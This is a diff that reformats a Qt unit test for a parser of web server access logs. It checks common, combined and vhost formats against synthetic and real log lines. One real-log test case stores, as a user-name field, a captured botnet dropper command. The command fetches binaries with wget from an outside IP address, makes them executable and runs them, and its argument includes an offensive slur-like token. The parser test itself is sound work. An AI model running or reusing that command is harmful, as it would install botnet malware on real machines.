@@ -5,7 +5,6 @@
 
 #include <QFile>
 #include <QTest>
-
 #include <string>
 
 using namespace es;
@@ -37,8 +36,7 @@ QByteArray qb(std::string_view v)
 // Parsers may read 64 bytes past a line's end; the pipeline guarantees it.
 struct PaddedLine
 {
-    explicit PaddedLine(const QByteArray &text)
-        : storage(text.constData(), std::size_t(text.size()))
+    explicit PaddedLine(const QByteArray &text) : storage(text.constData(), std::size_t(text.size()))
     {
         storage.append(64, '\0');
         view = std::string_view(storage.data(), std::size_t(text.size()));
@@ -117,17 +115,20 @@ void TestFormatsClf::syntheticLines_data()
 
     Expected e = base;
     e.user = "frank";
-    QTest::newRow("common") << "common"
-                            << QByteArray("192.0.2.7 - frank [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 2326")
-                            << e;
+    QTest::newRow("common")
+        << "common"
+        << QByteArray(
+               "192.0.2.7 - frank [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 2326")
+        << e;
 
     e = base;
     e.referrer = "http://www.example.com/start.html";
     e.userAgent = "Mozilla/4.08 [en] (Win98; I ;Nav)";
-    QTest::newRow("combined, CRLF") << "combined"
-                                    << QByteArray("192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 2326 "
-                                                  "\"http://www.example.com/start.html\" \"Mozilla/4.08 [en] (Win98; I ;Nav)\"\r")
-                                    << e;
+    QTest::newRow("combined, CRLF")
+        << "combined"
+        << QByteArray("192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 2326 "
+                      "\"http://www.example.com/start.html\" \"Mozilla/4.08 [en] (Win98; I ;Nav)\"\r")
+        << e;
 
     e = base;
     e.path = "/search";
@@ -135,16 +136,18 @@ void TestFormatsClf::syntheticLines_data()
     e.userAgent = "agent \\\"with\\\" quotes";
     QTest::newRow("escaped quotes in request and agent")
         << "combined"
-        << QByteArray("192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] \"GET /search?q=\\\"quoted\\\"&x=1 HTTP/1.0\" 200 2326 \"-\" "
+        << QByteArray("192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] \"GET /search?q=\\\"quoted\\\"&x=1 "
+                      "HTTP/1.0\" 200 2326 \"-\" "
                       "\"agent \\\"with\\\" quotes\"")
         << e;
 
     e = base;
     e.ip = "2001:db8::1";
     e.bytes = 0;
-    QTest::newRow("IPv6 client, '-' bytes") << "common"
-                                           << QByteArray("2001:db8::1 - - [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 -")
-                                           << e;
+    QTest::newRow("IPv6 client, '-' bytes")
+        << "common"
+        << QByteArray("2001:db8::1 - - [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 -")
+        << e;
 
     e = base;
     e.method = "POST";
@@ -152,24 +155,29 @@ void TestFormatsClf::syntheticLines_data()
     e.query = "";
     e.protocol = "HTTP/2.0";
     e.status = 201;
-    QTest::newRow("HTTP/2.0") << "common"
-                              << QByteArray("192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] \"POST /api/v1/items HTTP/2.0\" 201 2326")
-                              << e;
+    QTest::newRow("HTTP/2.0")
+        << "common"
+        << QByteArray("192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] \"POST /api/v1/items HTTP/2.0\" 201 2326")
+        << e;
 
     e = base;
     e.method = "GET";
     e.path = "/a path/with spaces";
-    QTest::newRow("space inside the target") << "common"
-                                             << QByteArray("192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] \"GET /a path/with spaces HTTP/1.0\" 200 2326")
-                                             << e;
+    QTest::newRow("space inside the target")
+        << "common"
+        << QByteArray(
+               "192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] \"GET /a path/with spaces HTTP/1.0\" 200 2326")
+        << e;
 
     e = base;
     e.method = e.path = e.protocol = "";
     e.status = 400;
     e.bytes = 150;
-    QTest::newRow("binary junk request") << "combined"
-                                         << QByteArray("192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] \"\\x16\\x03\\x01\\x00\\xF1\\x01\" 400 150 \"-\" \"-\"")
-                                         << e;
+    QTest::newRow("binary junk request")
+        << "combined"
+        << QByteArray("192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] \"\\x16\\x03\\x01\\x00\\xF1\\x01\" 400 150 "
+                      "\"-\" \"-\"")
+        << e;
 
     e = base;
     e.forwardedFor = "203.0.113.9, 10.0.0.1";
@@ -177,7 +185,8 @@ void TestFormatsClf::syntheticLines_data()
     e.userAgent = "curl/8.0";
     QTest::newRow("combined_extra: X-Forwarded-For")
         << "combined_extra"
-        << QByteArray("192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 2326 \"https://example.com/\" "
+        << QByteArray("192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 2326 "
+                      "\"https://example.com/\" "
                       "\"curl/8.0\" \"203.0.113.9, 10.0.0.1\" \"rt=0.005\"")
         << e;
 
@@ -185,24 +194,27 @@ void TestFormatsClf::syntheticLines_data()
     e.site = "www.example.org";
     e.referrer = "-x";
     e.userAgent = "ua";
-    QTest::newRow("vhost_combined with port") << "vhost_combined"
-                                              << QByteArray("www.example.org:8443 192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] "
-                                                            "\"GET /apache_pb.gif HTTP/1.0\" 200 2326 \"-x\" \"ua\"")
-                                              << e;
+    QTest::newRow("vhost_combined with port")
+        << "vhost_combined"
+        << QByteArray("www.example.org:8443 192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] "
+                      "\"GET /apache_pb.gif HTTP/1.0\" 200 2326 \"-x\" \"ua\"")
+        << e;
 
     e = base;
     e.ip = "::1";
     e.site = "intranet";
     QTest::newRow("vhost_combined, IPv6 client, common tail")
         << "vhost_combined"
-        << QByteArray("intranet ::1 - - [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 2326")
+        << QByteArray(
+               "intranet ::1 - - [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 2326")
         << e;
 
     e = base;
     e.user = "-x [y] \"z\"";
     QTest::newRow("bracket in user is not the timestamp")
         << "common"
-        << QByteArray("192.0.2.7 - -x [y] \"z\" [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 2326")
+        << QByteArray("192.0.2.7 - -x [y] \"z\" [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" "
+                      "200 2326")
         << e;
 }
 
@@ -234,41 +246,49 @@ void TestFormatsClf::malformedLines_data()
     QTest::newRow("empty") << "common" << QByteArray("") << skip << QByteArray();
     QTest::newRow("comment") << "combined" << QByteArray("# written by a test") << skip << QByteArray();
     QTest::newRow("wrapped first half")
-        << "common" << QByteArray("uplherc.upl.com - - [01/Aug/1995:00:00:44 -0400] \"GET /shuttle/missions") << bad
-        << QByteArray("unterminated quoted field");
-    QTest::newRow("wrapped second half") << "common" << QByteArray("/sts-71/sts-71-patch-small.gif HTTP/1.0\" 200 12054")
-                                         << bad << QByteArray("no timestamp");
-    QTest::newRow("cut inside the timestamp") << "common" << QByteArray("133.43.96.45 - - [01/Aug/199") << bad
-                                              << QByteArray("bad timestamp");
+        << "common" << QByteArray("uplherc.upl.com - - [01/Aug/1995:00:00:44 -0400] \"GET /shuttle/missions")
+        << bad << QByteArray("unterminated quoted field");
+    QTest::newRow("wrapped second half")
+        << "common" << QByteArray("/sts-71/sts-71-patch-small.gif HTTP/1.0\" 200 12054") << bad
+        << QByteArray("no timestamp");
+    QTest::newRow("cut inside the timestamp")
+        << "common" << QByteArray("133.43.96.45 - - [01/Aug/199") << bad << QByteArray("bad timestamp");
     QTest::newRow("month name invalid")
-        << "common" << QByteArray("1.2.3.4 - - [10/Foo/2012:16:42:07 -0500] \"GET / HTTP/1.0\" 301 368") << bad
-        << QByteArray("bad timestamp");
+        << "common" << QByteArray("1.2.3.4 - - [10/Foo/2012:16:42:07 -0500] \"GET / HTTP/1.0\" 301 368")
+        << bad << QByteArray("bad timestamp");
     QTest::newRow("nothing after the timestamp")
         << "common" << QByteArray("palpk-s13.intac.com - - [01/Aug/1995:00:22:41 -0400] ") << bad
         << QByteArray("too few fields");
     QTest::newRow("two-digit status") << "common"
-                                      << QByteArray("van15423.direct.ca - - [01/Aug/1995:00:20:29 -0400] \"GET /images/construct.gif HTTP/1.0\" 30")
+                                      << QByteArray("van15423.direct.ca - - [01/Aug/1995:00:20:29 -0400] "
+                                                    "\"GET /images/construct.gif HTTP/1.0\" 30")
                                       << bad << QByteArray("bad status");
     QTest::newRow("missing client")
-        << "common" << QByteArray(" - [01/Aug/1995:00:06:47 -0400] \"GET /images/dual-pad.gif HTTP/1.0\" 200 141308") << bad
-        << QByteArray("missing client address");
+        << "common"
+        << QByteArray(" - [01/Aug/1995:00:06:47 -0400] \"GET /images/dual-pad.gif HTTP/1.0\" 200 141308")
+        << bad << QByteArray("missing client address");
     QTest::newRow("no byte count") << "common"
-                                   << QByteArray("1.2.3.4 - - [10/Feb/2012:16:42:07 -0500] \"GET / HTTP/1.0\" 301")
+                                   << QByteArray(
+                                          "1.2.3.4 - - [10/Feb/2012:16:42:07 -0500] \"GET / HTTP/1.0\" 301")
                                    << bad << QByteArray("too few fields");
-    QTest::newRow("bad byte count") << "common"
-                                    << QByteArray("1.2.3.4 - - [10/Feb/2012:16:42:07 -0500] \"GET / HTTP/1.0\" 301 12x")
-                                    << bad << QByteArray("bad byte count");
-    QTest::newRow("vhost required") << "vhost_combined"
-                                    << QByteArray("1.2.3.4 - - [10/Feb/2012:16:42:07 -0500] \"GET / HTTP/1.0\" 301 368")
-                                    << bad << QByteArray("missing client address");
+    QTest::newRow("bad byte count")
+        << "common" << QByteArray("1.2.3.4 - - [10/Feb/2012:16:42:07 -0500] \"GET / HTTP/1.0\" 301 12x")
+        << bad << QByteArray("bad byte count");
+    QTest::newRow("vhost required")
+        << "vhost_combined"
+        << QByteArray("1.2.3.4 - - [10/Feb/2012:16:42:07 -0500] \"GET / HTTP/1.0\" 301 368") << bad
+        << QByteArray("missing client address");
     QTest::newRow("invalid UTF-8 is fine")
-        << "combined" << QByteArray("1.2.3.4 - - [10/Feb/2012:16:42:07 -0500] \"GET /\xff\xfe\xad HTTP/1.0\" 301 368 \"\xc3\x28\" \"\x80\"")
+        << "combined"
+        << QByteArray("1.2.3.4 - - [10/Feb/2012:16:42:07 -0500] \"GET /\xff\xfe\xad HTTP/1.0\" 301 368 "
+                      "\"\xc3\x28\" \"\x80\"")
         << ok << QByteArray();
     QTest::newRow("NUL bytes inside") << "combined"
-                                      << (QByteArray("1.2.3.4 - - [10/Feb/2012:16:42:07 -0500] \"GET /") + '\0'
-                                          + QByteArray("x HTTP/1.0\" 301 368"))
+                                      << (QByteArray("1.2.3.4 - - [10/Feb/2012:16:42:07 -0500] \"GET /") +
+                                          '\0' + QByteArray("x HTTP/1.0\" 301 368"))
                                       << ok << QByteArray();
-    QTest::newRow("garbage") << "combined" << QByteArray("\x01\x02\x03\xff\xfe") << bad << QByteArray("no timestamp");
+    QTest::newRow("garbage") << "combined" << QByteArray("\x01\x02\x03\xff\xfe") << bad
+                             << QByteArray("no timestamp");
 }
 
 void TestFormatsClf::malformedLines()
@@ -304,7 +324,8 @@ void TestFormatsClf::realLines_data()
     e.referrer = "http://semicomplete.com/presentations/logstash-monitorama-2013/";
     e.userAgent = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/32.0.1700.77 Safari/537.36";
-    QTest::newRow("elastic apache 1") << "access_logs/elastic_apache_logs.log" << "combined" << 1 << e;
+    QTest::newRow("elastic apache 1") << "access_logs/elastic_apache_logs.log"
+                                      << "combined" << 1 << e;
 
     e = {};
     e.ip = "201.242.142.135";
@@ -317,11 +338,13 @@ void TestFormatsClf::realLines_data()
     // The server's \xNN escapes are kept as written.
     e.referrer = "http://\\xe4\\xe5\\xe3\\xf2\\xff\\xf0\\xed\\xee\\xe5-\\xec\\xfb\\xeb\\xee.\\xf0\\xf4/";
     e.userAgent = "Mozilla/5.0 (Windows NT 6.1; rv:11.0) Gecko/20100101 Firefox/11.0";
-    QTest::newRow("elastic apache 5851, escaped referer") << "access_logs/elastic_apache_logs.log" << "combined" << 5851 << e;
+    QTest::newRow("elastic apache 5851, escaped referer") << "access_logs/elastic_apache_logs.log"
+                                                          << "combined" << 5851 << e;
 
     e = {};
     e.ip = "193.142.147.209";
-    e.user = "';echo '[S]';cd /tmp; wget 94.154.35.154/x86_64.uhavenobotsxd -O bot;chmod 777 bot;./bot nigservers; "
+    e.user = "';echo '[S]';cd /tmp; wget 94.154.35.154/x86_64.uhavenobotsxd -O bot;chmod 777 bot;./bot "
+             "nigservers; "
              "wget 94.154.35.154/x86_32.uhavenobotsxd -O bot;chmod 777 bot;./bot nigservers;echo '[E]';'";
     e.ts = 1766459716000;
     e.method = "GET";
@@ -332,7 +355,8 @@ void TestFormatsClf::realLines_data()
     e.bytes = 166;
     e.userAgent = "Go-http-client/1.1";
     QTest::newRow("meatlabel 5806, user with spaces and quotes")
-        << "access_logs/willthefarmer_meatlabel_nginx_combined.log" << "combined" << 5806 << e;
+        << "access_logs/willthefarmer_meatlabel_nginx_combined.log"
+        << "combined" << 5806 << e;
 
     e = {};
     e.ip = "45.9.168.192";
@@ -340,7 +364,8 @@ void TestFormatsClf::realLines_data()
     e.status = 400;
     e.bytes = 166;
     QTest::newRow("meatlabel 3, binary junk request")
-        << "access_logs/willthefarmer_meatlabel_nginx_combined.log" << "combined" << 3 << e;
+        << "access_logs/willthefarmer_meatlabel_nginx_combined.log"
+        << "combined" << 3 << e;
 
     e = {};
     e.ip = "179.43.184.242";
@@ -350,8 +375,8 @@ void TestFormatsClf::realLines_data()
     e.protocol = "HTTP/1.1";
     e.status = 400;
     e.bytes = 0;
-    QTest::newRow("meatlabel 76, CONNECT") << "access_logs/willthefarmer_meatlabel_nginx_combined.log" << "combined" << 76
-                                           << e;
+    QTest::newRow("meatlabel 76, CONNECT") << "access_logs/willthefarmer_meatlabel_nginx_combined.log"
+                                           << "combined" << 76 << e;
 
     e = {};
     e.ip = "206.168.34.45";
@@ -362,7 +387,8 @@ void TestFormatsClf::realLines_data()
     e.status = 400;
     e.bytes = 166;
     QTest::newRow("meatlabel 18466, HTTP/2 preface")
-        << "access_logs/willthefarmer_meatlabel_nginx_combined.log" << "combined" << 18466 << e;
+        << "access_logs/willthefarmer_meatlabel_nginx_combined.log"
+        << "combined" << 18466 << e;
 
     e = {};
     e.ip = "112.4.101.16";
@@ -372,7 +398,8 @@ void TestFormatsClf::realLines_data()
     e.status = 400;
     e.bytes = 166;
     QTest::newRow("meatlabel 3878, WebLogic t3 probe")
-        << "access_logs/willthefarmer_meatlabel_nginx_combined.log" << "combined" << 3878 << e;
+        << "access_logs/willthefarmer_meatlabel_nginx_combined.log"
+        << "combined" << 3878 << e;
 
     e = {};
     e.ip = "67.240.117.81";
@@ -382,7 +409,8 @@ void TestFormatsClf::realLines_data()
     e.protocol = "HTTP/2.0";
     e.status = 200;
     e.bytes = 636;
-    QTest::newRow("farmwork common 1") << "access_logs/willthefarmer_farmwork_apache_common.log" << "common" << 1 << e;
+    QTest::newRow("farmwork common 1") << "access_logs/willthefarmer_farmwork_apache_common.log"
+                                       << "common" << 1 << e;
 
     e = {};
     e.ip = "67.240.117.81";
@@ -393,7 +421,8 @@ void TestFormatsClf::realLines_data()
     e.status = 200;
     e.bytes = 4888;
     e.referrer = "https://farmwork.app/?ejy1BJVBHrqRG6NzzPUtiPf7akgwBV1y&1";
-    e.userAgent = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36";
+    e.userAgent = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 "
+                  "Safari/537.36";
     e.site = "farmwork.app";
     QTest::newRow("farmwork vhost 1") << "access_logs/willthefarmer_farmwork_apache_vhost_combined.log"
                                       << "vhost_combined" << 1 << e;
@@ -406,10 +435,11 @@ void TestFormatsClf::realLines_data()
     e.protocol = "HTTP/1.1";
     e.status = 503;
     e.bytes = 4355;
-    e.userAgent = "Mozilla/5.0 (X11; CrOS x86_64 8172.45.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.64 "
-                  "Safari/537.36";
-    QTest::newRow("farmwork combined 1") << "access_logs/willthefarmer_farmwork_apache_combined.log" << "combined" << 1
-                                         << e;
+    e.userAgent =
+        "Mozilla/5.0 (X11; CrOS x86_64 8172.45.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.64 "
+        "Safari/537.36";
+    QTest::newRow("farmwork combined 1") << "access_logs/willthefarmer_farmwork_apache_combined.log"
+                                         << "combined" << 1 << e;
 
     e = {};
     e.ip = "31.56.96.51";
@@ -420,10 +450,11 @@ void TestFormatsClf::realLines_data()
     e.status = 200;
     e.bytes = 5667;
     e.referrer = "https://www.zanbil.ir/m/filter/b113";
-    e.userAgent = "Mozilla/5.0 (Linux; Android 6.0; ALE-L21 Build/HuaweiALE-L21) AppleWebKit/537.36 (KHTML, like Gecko) "
+    e.userAgent = "Mozilla/5.0 (Linux; Android 6.0; ALE-L21 Build/HuaweiALE-L21) AppleWebKit/537.36 (KHTML, "
+                  "like Gecko) "
                   "Chrome/66.0.3359.158 Mobile Safari/537.36";
-    QTest::newRow("zanbil 2, +0330, extra \"-\"") << "access_logs/lnav_zanbil_shop_access_1000.log" << "combined_extra"
-                                                   << 2 << e;
+    QTest::newRow("zanbil 2, +0330, extra \"-\"") << "access_logs/lnav_zanbil_shop_access_1000.log"
+                                                  << "combined_extra" << 2 << e;
 
     e = {};
     e.ip = "95.81.66.139";
@@ -434,7 +465,8 @@ void TestFormatsClf::realLines_data()
     e.status = 403;
     e.bytes = 0;
     QTest::newRow("piwik 6, last line without newline")
-        << "access_logs/matomo_logs_to_tests_piwik_clickstream.log" << "combined" << 6 << e;
+        << "access_logs/matomo_logs_to_tests_piwik_clickstream.log"
+        << "combined" << 6 << e;
 
     e = {};
     e.ip = "127.0.0.1";
@@ -446,7 +478,8 @@ void TestFormatsClf::realLines_data()
     e.status = 200;
     e.bytes = 571;
     e.userAgent = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.12; rv:49.0) Gecko/20100101 Firefox/49.0";
-    QTest::newRow("beats nginx 1, forwarded chain") << "edge_cases/beats_nginx_access_test.log" << "combined" << 1 << e;
+    QTest::newRow("beats nginx 1, forwarded chain") << "edge_cases/beats_nginx_access_test.log"
+                                                    << "combined" << 1 << e;
 
     e = {};
     e.ip = "10.2.1.185";
@@ -459,7 +492,8 @@ void TestFormatsClf::realLines_data()
     e.status = 200;
     e.bytes = 25507;
     e.userAgent = "Amazon CloudFront";
-    QTest::newRow("beats nginx 5, quoted chain") << "edge_cases/beats_nginx_access_test.log" << "combined" << 5 << e;
+    QTest::newRow("beats nginx 5, quoted chain") << "edge_cases/beats_nginx_access_test.log"
+                                                 << "combined" << 5 << e;
 
     e = {};
     e.ip = "10.2.2.121";
@@ -470,22 +504,26 @@ void TestFormatsClf::realLines_data()
     e.protocol = "HTTP/1.1";
     e.status = 404;
     e.bytes = 8571;
-    e.userAgent = "Mozilla/5.0 (compatible; Facebot 1.0; https://developers.facebook.com/docs/sharing/webmasters/crawler)";
-    QTest::newRow("beats nginx 6, IPv6 in chain") << "edge_cases/beats_nginx_access_test.log" << "combined" << 6 << e;
+    e.userAgent = "Mozilla/5.0 (compatible; Facebot 1.0; "
+                  "https://developers.facebook.com/docs/sharing/webmasters/crawler)";
+    QTest::newRow("beats nginx 6, IPv6 in chain") << "edge_cases/beats_nginx_access_test.log"
+                                                  << "combined" << 6 << e;
 
     e = {};
     e.ip = "127.0.0.1";
     e.ts = 1523519320000;
     e.status = 400;
     e.bytes = 0;
-    QTest::newRow("beats nginx 7, empty request") << "edge_cases/beats_nginx_access_test.log" << "combined" << 7 << e;
+    QTest::newRow("beats nginx 7, empty request") << "edge_cases/beats_nginx_access_test.log"
+                                                  << "combined" << 7 << e;
 
     e = {};
     e.ip = "::1";
     e.ts = 1482761808000;
     e.status = 408;
     e.bytes = 0;
-    QTest::newRow("beats apache 3, \"-\" request") << "edge_cases/beats_apache_access_test.log" << "combined" << 3 << e;
+    QTest::newRow("beats apache 3, \"-\" request") << "edge_cases/beats_apache_access_test.log"
+                                                   << "combined" << 3 << e;
 
     e = {};
     e.ip = "monitoring-server";
@@ -496,8 +534,8 @@ void TestFormatsClf::realLines_data()
     e.status = 200;
     e.bytes = 612;
     e.userAgent = kFirefox;
-    QTest::newRow("beats apache 5, host name client") << "edge_cases/beats_apache_access_test.log" << "combined" << 5
-                                                      << e;
+    QTest::newRow("beats apache 5, host name client") << "edge_cases/beats_apache_access_test.log"
+                                                      << "combined" << 5 << e;
 
     e = {};
     e.ip = "123.123.123.123";
@@ -508,10 +546,11 @@ void TestFormatsClf::realLines_data()
     e.protocol = "HTTP/1.1";
     e.status = 200;
     e.bytes = 32953;
-    e.userAgent = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/75.0.3770.100 "
-                  "Safari/537.36";
-    QTest::newRow("beats apache 7, vhost line among plain ones")
-        << "edge_cases/beats_apache_access_test.log" << "combined" << 7 << e;
+    e.userAgent =
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/75.0.3770.100 "
+        "Safari/537.36";
+    QTest::newRow("beats apache 7, vhost line among plain ones") << "edge_cases/beats_apache_access_test.log"
+                                                                 << "combined" << 7 << e;
 
     e = {};
     e.ip = "192.168.202.254";
@@ -522,8 +561,8 @@ void TestFormatsClf::realLines_data()
     e.status = 404;
     e.bytes = 46210;
     e.userAgent = "gPXE/0.9.7";
-    QTest::newRow("lnav bad access log 2, no ident/user")
-        << "edge_cases/lnav_logfile_bad_access_log.0" << "combined" << 2 << e;
+    QTest::newRow("lnav bad access log 2, no ident/user") << "edge_cases/lnav_logfile_bad_access_log.0"
+                                                          << "combined" << 2 << e;
 
     e = {};
     e.ip = "in24.inetnebr.com";
@@ -533,7 +572,8 @@ void TestFormatsClf::realLines_data()
     e.protocol = "HTTP/1.0";
     e.status = 200;
     e.bytes = 1839;
-    QTest::newRow("nasa 1") << "edge_cases/nasa_aug95_sample_wrapped_lines.log" << "common" << 1 << e;
+    QTest::newRow("nasa 1") << "edge_cases/nasa_aug95_sample_wrapped_lines.log"
+                            << "common" << 1 << e;
 }
 
 void TestFormatsClf::realLines()
@@ -562,7 +602,8 @@ void TestFormatsClf::variantsDisagreeOnlyWhereTheyShould()
     // One combined line with an extra field: every lenient variant reads it,
     // but only combined_extra fills forwardedFor, and vhost_combined refuses
     // it because "1.2.3.4" then leaves "-" as the client.
-    const PaddedLine line(QByteArray("1.2.3.4 - - [10/Feb/2012:16:42:07 -0500] \"GET / HTTP/1.0\" 301 368 \"-\" \"ua\" \"9.9.9.9\""));
+    const PaddedLine line(QByteArray(
+        "1.2.3.4 - - [10/Feb/2012:16:42:07 -0500] \"GET / HTTP/1.0\" 301 368 \"-\" \"ua\" \"9.9.9.9\""));
     Record r;
     auto combined = parserFor(QStringLiteral("combined"));
     QCOMPARE(combined->parse(line.view, r), ParseResult::Ok);
@@ -584,7 +625,8 @@ void TestFormatsClf::cloneIsIndependent()
     auto copy = parser->clone();
     QVERIFY(copy);
     QVERIFY(!copy->isStateful());
-    const PaddedLine a(QByteArray("1.1.1.1 - - [10/Feb/2012:16:42:07 -0500] \"GET /a HTTP/1.0\" 200 1 \"-\" \"x\" \"7.7.7.7\""));
+    const PaddedLine a(QByteArray(
+        "1.1.1.1 - - [10/Feb/2012:16:42:07 -0500] \"GET /a HTTP/1.0\" 200 1 \"-\" \"x\" \"7.7.7.7\""));
     const PaddedLine b(QByteArray("2.2.2.2 - - [10/Feb/2012:16:42:08 -0500] \"GET /b HTTP/1.0\" 200 2"));
     Record ra;
     Record rb;
